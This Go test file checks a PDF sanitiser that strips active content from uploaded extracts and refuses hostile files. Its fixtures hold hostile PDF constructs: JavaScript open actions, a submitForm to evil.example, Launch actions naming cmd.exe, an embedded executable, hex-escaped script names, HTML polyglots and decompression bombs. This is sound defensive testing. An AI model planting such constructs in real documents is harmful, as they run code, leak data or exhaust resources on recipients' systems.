package inspect

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/pdfcpu/pdfcpu/pkg/api"

	"github.com/privacyloket/privacyloket/shared/idcheck"
)

// inspectExtract is InspectExtractContext on the tests' own budget, so that
// a loaded machine judges by content rather than by time.
func inspectExtract(data []byte) (*idcheck.Document, error) {
	return heavy.inspectAs(context.Background(), data, modeExtract)
}

// checkSanitisedExtract fails t unless doc, an accepted extract, is what an
// ID copy may be: the ID copy's final check passes it, an ID copy's
// inspection accepts it (when its pages allow), and none of banned is left
// in it, not even inside a compressed stream.
func checkSanitisedExtract(t *testing.T, doc *idcheck.Document, banned ...string) {
	t.Helper()
	if got := checkRewrittenPDF(context.Background(), doc.Data); got != "" {
		t.Errorf("checkRewrittenPDF(extract) = %q, want accepted", got)
	}
	if doc.Pages <= idcheck.MaxPDFPages {
		if _, err := heavy.inspect(context.Background(), doc.Data); err != nil {
			t.Errorf("the extract's copy inspected as an ID copy: %v", err)
		}
	}
	for _, s := range append(inflatedStreams(doc.Data), doc.Data) {
		for _, b := range banned {
			if bytes.Contains(s, []byte(b)) {
				t.Errorf("the extract's copy still holds %q", b)
			}
		}
	}
}

// TestInspectExtractTestdata: public files with active content (testdata/README.md), each
// refused as an ID copy, are accepted as extracts with it removed.
func TestInspectExtractTestdata(t *testing.T) {
	t.Parallel()
	tests := []struct {
		file    string
		pages   int
		removed []string
		banned  []string
	}{
		{"autoprint.pdf", 1, []string{idcheck.RemovedScripts}, []string{"print(", "JavaScript"}},
		{"js-buttons.pdf", 1, []string{idcheck.RemovedActions, idcheck.RemovedScripts}, []string{"JavaScript", "app.alert"}},
		{"attachment.pdf", 1, []string{idcheck.RemovedAttachments}, []string{"EmbeddedFile"}},
		{"annotation-fileattachment.pdf", 1, []string{idcheck.RemovedAttachments}, []string{"FileAttachment", "EmbeddedFile"}},
		{"multimedia_annotations.pdf", 1, []string{idcheck.RemovedMedia}, []string{"Annots", "MediaClip", "EmbeddedFile"}},
		{"file_url_link.pdf", 1, []string{idcheck.RemovedLinks}, []string{"file:"}},
		{"annotation-button-widget.pdf", 1, []string{idcheck.RemovedForms, idcheck.RemovedScripts}, []string{"SubmitForm", "JavaScript"}},
		{"bug2025674.pdf", 1, []string{idcheck.RemovedAttachments}, []string{"EmbeddedFile"}},
	}
	for _, tt := range tests {
		t.Run(tt.file, func(t *testing.T) {
			t.Parallel()
			data := readTestdata(t, tt.file)
			if got := rejectionCode(t, second(heavy.inspect(context.Background(), data))); got != idcheck.CodePDFActiveContent {
				t.Errorf("Inspect() code = %q, want %q", got, idcheck.CodePDFActiveContent)
			}
			doc, err := inspectExtract(data)
			if err != nil {
				t.Fatalf("InspectExtract() = %v", err)
			}
			if got, want := doc.Pages, tt.pages; got != want {
				t.Errorf("Pages = %d, want %d", got, want)
			}
			if !slices.Equal(doc.Removed, tt.removed) {
				t.Errorf("Removed = %q, want %q", doc.Removed, tt.removed)
			}
			checkSanitisedExtract(t, doc, tt.banned...)
			// Removal leaves nothing to remove.
			again, err := inspectExtract(doc.Data)
			if err != nil || len(again.Removed) > 0 {
				t.Errorf("InspectExtract(sanitised) = %v, %v; want accepted, nothing removed", again, err)
			}
		})
	}
}

// TestInspectExtractScriptAndAttachment: pdf.js's autoprint.pdf (a document script that
// prints on opening) with a file attached by pdfcpu: an extract keeps the page and loses
// both; an ID copy with the same content is refused.
func TestInspectExtractScriptAndAttachment(t *testing.T) {
	t.Parallel()
	in := scriptAndAttachmentPDF(t)
	if got := rejectionCode(t, second(Inspect(in))); got != idcheck.CodePDFActiveContent {
		t.Errorf("Inspect() code = %q, want %q", got, idcheck.CodePDFActiveContent)
	}
	doc, err := InspectExtractContext(context.Background(), in)
	if err != nil {
		t.Fatalf("InspectExtractContext() = %v", err)
	}
	if got, want := doc.Removed, []string{idcheck.RemovedAttachments, idcheck.RemovedScripts}; !slices.Equal(got, want) {
		t.Errorf("Removed = %q, want %q", got, want)
	}
	if got, want := doc.Pages, 1; got != want {
		t.Errorf("Pages = %d, want %d", got, want)
	}
	checkSanitisedExtract(t, doc, "JavaScript", "print(", "EmbeddedFile", "export.csv", "Jan Jansen")
}

// scriptAndAttachmentPDF is pdf.js's autoprint.pdf with export.csv attached by pdfcpu.
func scriptAndAttachmentPDF(tb testing.TB) []byte {
	tb.Helper()
	attached := filepath.Join(tb.TempDir(), "export.csv")
	if err := os.WriteFile(attached, []byte("naam;adres\nJan Jansen;Dorpsstraat 1\n"), 0o600); err != nil {
		tb.Fatal(err)
	}
	var out bytes.Buffer
	if err := api.AddAttachments(context.Background(), bytes.NewReader(readTestdata(tb, "autoprint.pdf")), &out, []string{attached}, false, pdfConfig()); err != nil {
		tb.Fatalf("attach: %v", err)
	}
	if !bytes.Contains(out.Bytes(), []byte("EmbeddedFile")) || !bytes.Contains(out.Bytes(), []byte("JavaScript")) {
		tb.Fatal("the fixture lacks its script or its attachment")
	}
	return out.Bytes()
}

// TestInspectExtractRemoves: each kind of active content an ID copy is refused for
// (TestInspectPDFRefuses) is removed from an extract, and what it hung on stays.
func TestInspectExtractRemoves(t *testing.T) {
	t.Parallel()
	link := func(action string) pdfSpec {
		return pdfSpec{page: "/Annots [6 0 R]", extra: []string{"<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A " + action + " >>"}}
	}
	tests := []struct {
		name    string
		data    []byte
		removed []string
		banned  []string
		kept    []string // what must survive in the copy
	}{
		{"javascript open action", buildPDF(pdfSpec{catalog: "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"}),
			[]string{idcheck.RemovedScripts}, []string{"OpenAction", "app.alert"}, nil},
		{"javascript name tree", buildPDF(pdfSpec{catalog: "/Names << /JavaScript << /Names [(a) 6 0 R] >> >>",
			extra: []string{"<< /S /JavaScript /JS (this.submitForm('https://evil.example')) >>"}}),
			[]string{idcheck.RemovedScripts}, []string{"submitForm"}, nil},
		{"javascript in an indirect stream", buildPDF(pdfSpec{catalog: "/OpenAction 6 0 R",
			extra: []string{"<< /S /JavaScript /JS 7 0 R >>", streamObject("", []byte("app.alert(1)"))}}),
			[]string{idcheck.RemovedScripts}, []string{"app.alert"}, nil},
		{"names written with hex escapes", buildPDF(pdfSpec{catalog: "/OpenAction << /S /J#61va#53cript /J#53 (app.alert(1)) >>"}),
			[]string{idcheck.RemovedScripts}, []string{"app.alert", "J#"}, nil},
		{"launch action", buildPDF(pdfSpec{catalog: "/OpenAction << /S /Launch /F (cmd.exe) >>"}),
			[]string{idcheck.RemovedActions}, []string{"cmd.exe"}, nil},
		{"launch in a link: the link stays", buildPDF(link("<< /S /Launch /F (evil.exe) >>")),
			[]string{idcheck.RemovedActions}, []string{"evil.exe"}, []string{"/Link"}},
		{"script chained after a jump: the jump stays", buildPDF(link("<< /S /GoTo /D [5 0 R /Fit] /Next [<< /S /JavaScript /JS (app.alert(1)) >> << /S /GoTo /D [5 0 R /Fit] >>] >>")),
			[]string{idcheck.RemovedScripts}, []string{"app.alert"}, []string{"/GoTo", "/Next"}},
		{"embedded file", buildPDF(pdfSpec{catalog: "/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>",
			extra: []string{"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>", streamObject("/Type /EmbeddedFile", []byte("MZ payload"))}}),
			[]string{idcheck.RemovedAttachments}, []string{"a.exe", "MZ payload"}, nil},
		{"file attachment annotation", buildPDF(pdfSpec{page: "/Annots [6 0 R 8 0 R]", extra: []string{
			"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 7 0 R >>", "<< /Type /Filespec /F (x.zip) >>",
			"<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /Contents (Opmerking) >>"}}),
			[]string{idcheck.RemovedAttachments}, []string{"x.zip", "FileAttachment"}, []string{"Opmerking"}},
		{"page additional actions", buildPDF(pdfSpec{page: "/AA << /O << /S /URI /URI (https://tracker.example/opened) >> >>"}),
			[]string{idcheck.RemovedActions}, []string{"tracker.example"}, nil},
		{"catalog additional actions with a script", buildPDF(pdfSpec{catalog: "/AA << /WC << /S /JavaScript /JS (app.alert(1)) >> >>"}),
			[]string{idcheck.RemovedActions, idcheck.RemovedScripts}, []string{"app.alert"}, nil},
		{"uri open action", buildPDF(pdfSpec{catalog: "/OpenAction << /S /URI /URI (https://tracker.example/opened) >>"}),
			[]string{idcheck.RemovedActions}, []string{"tracker.example"}, nil},
		{"open action to a page stays", buildPDF(pdfSpec{catalog: "/OpenAction [5 0 R /Fit]"}), nil, nil, []string{"/OpenAction"}},
		{"rich media annotation", buildPDF(pdfSpec{page: "/Annots [6 0 R]", extra: []string{"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"}}),
			[]string{idcheck.RemovedMedia}, []string{"RichMedia"}, nil},
		{"xfa form, the AcroForm stays", buildPDF(pdfSpec{catalog: "/AcroForm << /Fields [6 0 R] /XFA 7 0 R >>", page: "/Annots [6 0 R]", extra: []string{
			"<< /Type /Annot /Subtype /Widget /FT /Tx /T (naam) /V (Jan Jansen) /DA (/Helv 10 Tf 0 g) /Rect [0 0 99 20] >>", streamObject("", []byte("<xdp:xdp/>"))}}),
			[]string{idcheck.RemovedForms}, []string{"xdp", "XFA"}, []string{"/AcroForm", "Jan Jansen"}},
		{"submit form", buildPDF(pdfSpec{page: "/Annots [6 0 R]", extra: []string{
			"<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 9 9] /A << /S /SubmitForm /F (https://evil.example) >> >>"}}),
			[]string{idcheck.RemovedForms}, []string{"evil.example"}, []string{"/Widget"}},
		{"javascript: link", buildPDF(link("<< /S /URI /URI ( JaVa\\tScript:app.alert\\(1\\)) >>")),
			[]string{idcheck.RemovedLinks}, []string{"app.alert"}, []string{"/Link"}},
		{"web link stays", buildPDF(link("<< /S /URI /URI (https://www.rijksoverheid.nl/) >>")), nil, nil, []string{"rijksoverheid"}},
		{"associated embedded file", buildPDF(pdfSpec{catalog: "/AF [6 0 R]", extra: []string{
			"<< /Type /Filespec /F (a.xml) /AFRelationship /Data /EF << /F 7 0 R >> >>", streamObject("/Subtype /text#2Fxml", []byte("<a/>"))}}),
			[]string{idcheck.RemovedAttachments}, []string{"a.xml"}, nil},
		{"javascript in an object missing from the xref", buildPDF(pdfSpec{orphan: "<< /S /JavaScript /JS (app.alert(1)) >>"}),
			nil, []string{"app.alert"}, nil},
		{"javascript hidden in an object stream", objectStreamPDF(t), []string{idcheck.RemovedScripts}, []string{"app.alert"}, nil},
		{"script in a link hidden in an object stream", objStmPDFWith(t, "", "/Annots [6 0 R]",
			"<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /J#61vaScript /J#53 (app.alert(1)) >> >>"),
			[]string{idcheck.RemovedScripts}, []string{"app.alert"}, []string{"/Link"}},
		{"structure tree pointing at a removed annotation", buildPDF(pdfSpec{
			catalog: "/StructTreeRoot 7 0 R /MarkInfo << /Marked true >>", page: "/Annots [6 0 R] /StructParents 0",
			extra: []string{"<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /StructParent 1 >>",
				"<< /Type /StructTreeRoot /K [8 0 R] >>",
				"<< /Type /StructElem /S /Annot /P 7 0 R /Pg 5 0 R /K [<< /Type /OBJR /Obj 6 0 R /Pg 5 0 R >>] >>"}}),
			[]string{idcheck.RemovedMedia}, []string{"Screen", "OBJR"}, []string{"/StructElem"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			if len(tt.removed) > 0 {
				if got := rejectionCode(t, second(Inspect(tt.data))); got != idcheck.CodePDFActiveContent {
					t.Errorf("Inspect() code = %q, want %q", got, idcheck.CodePDFActiveContent)
				}
			}
			doc, err := inspectExtract(tt.data)
			if err != nil {
				t.Fatalf("InspectExtract() = %v", err)
			}
			if !slices.Equal(doc.Removed, tt.removed) {
				t.Errorf("Removed = %q, want %q", doc.Removed, tt.removed)
			}
			checkSanitisedExtract(t, doc, tt.banned...)
			for _, k := range tt.kept {
				if !bytes.Contains(doc.Data, []byte(k)) {
					t.Errorf("the extract's copy lost %q", k)
				}
			}
		})
	}
}

// TestInspectExtractRefuses: what removal cannot make safe is refused as for an ID copy.
func TestInspectExtractRefuses(t *testing.T) {
	t.Parallel()
	good := buildPDF(pdfSpec{})
	tests := []struct {
		name string
		data []byte
		want string
	}{
		{"a JPEG is not an extract", encodeJPEG(t, quadrants(400, 300)), idcheck.CodeUnsupportedType},
		{"a PNG is not an extract", encodePNG(t, quadrants(400, 300)), idcheck.CodeUnsupportedType},
		{"empty", nil, idcheck.CodeEmpty},
		{"over MaxSize", append(bytes.Clone(good), make([]byte, idcheck.MaxSize)...), idcheck.CodeTooLarge},
		{"encrypted with an empty user password", encryptedPDF(t, ""), idcheck.CodePDFEncrypted},
		{"encrypted with a user password", encryptedPDF(t, "geheim"), idcheck.CodePDFEncrypted},
		{"polyglot with a zip appended", append(bytes.Clone(good), zipArchive(t)...), idcheck.CodePDFActiveContent},
		{"polyglot with html appended", append(bytes.Clone(good), "<html><script>alert(1)</script></html>"...), idcheck.CodePDFActiveContent},
		{"polyglot with a jpeg appended", append(bytes.Clone(good), encodeJPEG(t, quadrants(200, 200))...), idcheck.CodePDFActiveContent},
		{"polyglot with a png signature in a dictionary", buildPDF(pdfSpec{extra: []string{"<< /X (\x89PNG\r\n\x1a\n) >>"}}), idcheck.CodePDFActiveContent},
		{"html in the object syntax", buildPDF(pdfSpec{extra: []string{"<< /X 1 >> <html>"}}), idcheck.CodePDFActiveContent},
		// Rich text is kept, and a script in it is not removed: refused by the final check.
		{"rich text with a script", buildPDF(pdfSpec{page: "/Annots [6 0 R]",
			extra: []string{strings.Replace(freeTextAnnot, "<p>", "<p><script>alert(1)</script>", 1)}}), idcheck.CodePDFActiveContent},
		// Its pages only say "please wait" while a viewer renders the form: nothing is left
		// without it (pdf.js's xfa_issue14315.pdf).
		{"dynamic XML form", readTestdata(t, "xfa_issue14315.pdf"), idcheck.CodePDFActiveContent},
		{"junk after %%EOF", append(bytes.Clone(good), "trailing junk"...), idcheck.CodePDFCorrupt},
		{"truncated", good[:len(good)/2], idcheck.CodePDFCorrupt},
		{"too many pages", buildPDF(pdfSpec{pages: idcheck.MaxExtractPages + 1}), idcheck.CodePDFTooManyPages},
		{"25 000 objects", manyObjectsPDF(25_000), idcheck.CodePDFCorrupt},
		{"huge object number", withUpdate(good, 57777777, "<< /S /JavaScript /JS (1) >>"), idcheck.CodePDFCorrupt},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			doc, err := inspectExtract(tt.data)
			if got := rejectionCode(t, err); got != tt.want {
				t.Errorf("InspectExtract() code = %q, want %q", got, tt.want)
			}
			if doc != nil {
				t.Errorf("InspectExtract() returned a document alongside a refusal")
			}
		})
	}
}

// TestInspectExtractPages: a 500-page report written by pdfcpu is an extract; one page more
// is not; either is far too long for an ID copy.
func TestInspectExtractPages(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		pages int
		want  string
	}{
		{idcheck.MaxExtractPages, ""},
		{idcheck.MaxExtractPages + 1, idcheck.CodePDFTooManyPages},
	} {
		t.Run(strconv.Itoa(tt.pages), func(t *testing.T) {
			t.Parallel()
			pdf := reportPDF(t, tt.pages, 60)
			doc, err := InspectExtractContext(context.Background(), pdf)
			if got := rejectionCode(t, err); got != tt.want {
				t.Fatalf("InspectExtractContext() code = %q, want %q", got, tt.want)
			}
			if doc != nil && doc.Pages != tt.pages {
				t.Errorf("Pages = %d, want %d", doc.Pages, tt.pages)
			}
			if got := rejectionCode(t, second(heavy.inspect(context.Background(), pdf))); got != idcheck.CodePDFTooManyPages {
				t.Errorf("Inspect() code = %q, want %q", got, idcheck.CodePDFTooManyPages)
			}
		})
	}
}

// reportPDF is a report of pages pages of lines lines of text each, each page its own
// content stream, merged by pdfcpu (MergeRaw) as an export tool would write it.
func reportPDF(tb testing.TB, pages, lines int) []byte {
	tb.Helper()
	rs := make([]io.ReadSeeker, pages)
	for i := range rs {
		var c strings.Builder
		c.WriteString("BT /F1 9 Tf 40 800 Td 11 TL\n")
		for l := range lines {
			fmt.Fprintf(&c, "(Pagina %d regel %d: klantcontact 2026-03-%02d, huurbetaling ontvangen, dossier 1234567) '\n", i+1, l+1, l%28+1)
		}
		c.WriteString("ET")
		rs[i] = bytes.NewReader(buildPDF(pdfSpec{content: c.String()}))
	}
	var out bytes.Buffer
	if err := api.MergeRaw(context.Background(), rs, &out, false, pdfConfig()); err != nil {
		tb.Fatal(err)
	}
	return out.Bytes()
}

// TestInspectExtractHostile: the trust work's hostile PDFs are refused in extract mode as
// they are as ID copies, before pdfcpu reads them, and a PDF that keeps pdfcpu busy is
// refused when its time is up. (Their memory: TestHostileUploadMemory with
// IDCHECK_MEMBENCH_MODE=extract.)
func TestInspectExtractHostile(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		data []byte
		want string
	}{
		{"metadata inflating to 500 MiB", metadataBombPDF(t, 500<<20), idcheck.CodePDFCorrupt},
		{"40 object streams of 15 MiB", objStmBombPDF(t, 40, 15<<20), idcheck.CodePDFCorrupt},
		{"content stream inflating to 256 MiB", contentBombPDF(t, 256<<20), idcheck.CodePDFCorrupt},
		// An ID copy is refused for the attachment before its stream is decoded; an
		// extract, whose attachment would be removed, for what it inflates to.
		{"embedded file inflating to 1 GiB", embeddedFileBombPDF(t, 1<<30), idcheck.CodePDFCorrupt},
		{"image inflating to 1 GiB", imageBombPDF(t, 2000, 2000, 1<<30), idcheck.CodeImageTooLarge},
		{"10 pages with 40 images of 6000x6600", imagesPDF(t, 10, 40), idcheck.CodeImageTooLarge},
		{"JBIG2 in page content (pdf.js bomb_giant.pdf)", readTestdata(t, "bomb_giant.pdf"), idcheck.CodePDFCorrupt},
		{"3.5 million empty arrays in an object stream", objStmPDFWith(t, "/Foo 6 0 R", "", "["+strings.Repeat("[]", 3_500_000)+"]"), idcheck.CodePDFCorrupt},
		{"18 000 dictionaries of 23 entries", bigDictsPDF(), idcheck.CodePDFCorrupt},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			if len(tt.data) > idcheck.MaxSize {
				t.Fatalf("fixture is %d bytes", len(tt.data))
			}
			if got := rejectionCode(t, second(newBudget(MemoryBudget, time.Minute).inspectAs(context.Background(), tt.data, modeExtract))); got != tt.want {
				t.Errorf("InspectExtract() code = %q, want %q", got, tt.want)
			}
		})
	}
	// With room in the budget for it, a file that keeps pdfcpu busy is refused when its
	// time is up, as an ID copy is (TestInspectPDFTakesTooLong).
	b := newBudget(1<<40, time.Minute)
	b.pdfTime = 300 * time.Millisecond
	start := time.Now()
	if got := rejectionCode(t, second(b.inspectAs(context.Background(), bigDictsPDF(), modeExtract))); got != idcheck.CodePDFCorrupt {
		t.Errorf("InspectExtract() code = %q, want %q", got, idcheck.CodePDFCorrupt)
	}
	if d := time.Since(start); d > 5*time.Second {
		t.Errorf("refusing took %v", d)
	}
}

// TestInspectExtractFuzzCorpus: the inputs FuzzInspect found (testdata/fuzz) are judged as
// extracts without a panic, and what is accepted passes the ID copy's final check.
func TestInspectExtractFuzzCorpus(t *testing.T) {
	t.Parallel()
	paths, err := filepath.Glob(filepath.Join("testdata", "fuzz", "*", "*"))
	if err != nil || len(paths) == 0 {
		t.Fatalf("no fuzz corpus: %v", err)
	}
	for _, path := range paths {
		raw, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		_, line, _ := strings.Cut(string(raw), "\n")
		line = strings.TrimSuffix(strings.TrimPrefix(strings.TrimSpace(line), "[]byte("), ")")
		data, err := strconv.Unquote(line)
		if err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		doc, err := inspectExtract([]byte(data))
		if err == nil {
			checkSanitisedExtract(t, doc)
			continue
		}
		rejectionCode(t, err) // fails unless a Rejection
	}
}

// FuzzInspectExtract: no input panics, every error is a Rejection, and an accepted
// extract passes the ID copy's final check and is accepted again with nothing to remove.
func FuzzInspectExtract(f *testing.F) {
	f.Add(buildPDF(pdfSpec{}))
	f.Add(buildPDF(pdfSpec{catalog: "/OpenAction << /S /JavaScript /JS (app.alert(1)) >> /Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>",
		extra: []string{"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>", streamObject("/Type /EmbeddedFile", []byte("MZ"))}}))
	f.Add(buildPDF(pdfSpec{page: "/Annots [6 0 R] /AA << /O << /S /Launch /F (x) >> >>",
		extra: []string{"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D [5 0 R /Fit] /Next << /S /URI /URI (file:///x) >> >> >>"}}))
	f.Add(objStmPDFWith(f, "", "/Annots [6 0 R]", "<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] >>"))
	f.Add(buildPDF(pdfSpec{catalog: "/AcroForm << /Fields [] /XFA 6 0 R >>", extra: []string{streamObject("", []byte("<xdp:xdp/>"))}}))
	f.Fuzz(func(t *testing.T, data []byte) {
		doc, err := InspectExtractContext(context.Background(), data)
		if err != nil {
			rejectionCode(t, err)
			return
		}
		if got := checkRewrittenPDF(context.Background(), doc.Data); got != "" {
			t.Fatalf("checkRewrittenPDF(extract) = %q", got)
		}
		again, err := InspectExtractContext(context.Background(), doc.Data)
		if err != nil || len(again.Removed) > 0 {
			t.Fatalf("InspectExtractContext(sanitised) = %v, %v", again, err)
		}
	})
}
